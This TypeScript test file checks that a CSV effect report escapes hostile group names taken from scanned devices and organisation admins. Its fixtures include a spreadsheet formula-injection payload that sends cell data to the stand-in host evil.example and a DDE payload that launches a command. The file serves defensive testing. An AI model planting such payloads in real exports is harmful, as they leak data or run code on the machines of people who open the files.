import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PgliteStateStore } from '../store/state/pglite-store.js';
import { STATE_MIGRATIONS } from '../store/migrations/state/index.js';
import { UNRESTRICTED } from '../store/need-to-know.js';
import { splitCsvLine } from '../enrich/csv-fields.js';
import { effectCsv, effectReport } from './effect-report.js';

const NOW = new Date('2026-11-30T00:00:00Z');
const MODEL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const ORG = "+cmd|' /C calc'!A0";

describe('effects.csv', () => {
  let state: PgliteStateStore;
  beforeAll(async () => {
    state = await PgliteStateStore.open();
    for (const m of STATE_MIGRATIONS) for (const s of m.statements) await state.exec(s);
    // A device model a scanned host named itself, a recipient named by an organisation's admin.
    const notified = new Date(NOW.getTime() - 40 * 86_400_000);
    const resolved = new Date(notified.getTime() + 2 * 86_400_000);
    await state.query(
      `INSERT INTO cases (id, recipient, recipient_name, ip, kind, detail, device_model, state, first_seen, last_seen, opened_at, notified_at, resolved_at)
       VALUES (1, 'org:x', $1, '10.0.0.1', 'default_credential', '{}', $2, 'resolved', $3, $3, $3, $3, $4)`,
      [ORG, MODEL, notified, resolved],
    );
    await state.query(`INSERT INTO case_events (case_id, at, from_state, to_state, reason, evidence) VALUES (1, $1, 'new', 'notified', 'x', '{"round": 1}')`, [notified]);
    await state.query(`INSERT INTO case_events (case_id, at, from_state, to_state, reason) VALUES (1, $1, 'notified', 'resolved', 'evidence')`, [resolved]);
  }, 60_000);
  afterAll(async () => { await state.close(); });

  it.each<[('device_model' | 'recipient'), string]>([['device_model', MODEL], ['recipient', ORG]])('neutralises a hostile %s group, numbers untouched', async (groupBy, group) => {
    const csv = effectCsv(await effectReport(state, UNRESTRICTED, { now: NOW, groupBy }));
    const [head, line, end] = csv.split('\r\n');
    expect(end).toBe('');
    expect(splitCsvLine(head ?? '')?.[0]).toBe('group');
    const row = splitCsvLine(line ?? '') ?? [];
    expect(row[0]).toBe(`'${group}`);
    expect(line?.startsWith(`"'`)).toBe(true);
    expect(row.slice(1, 4)).toEqual(['1', '1', '1']);
    expect(row.at(-2)).toBe('2.00');
  });
});
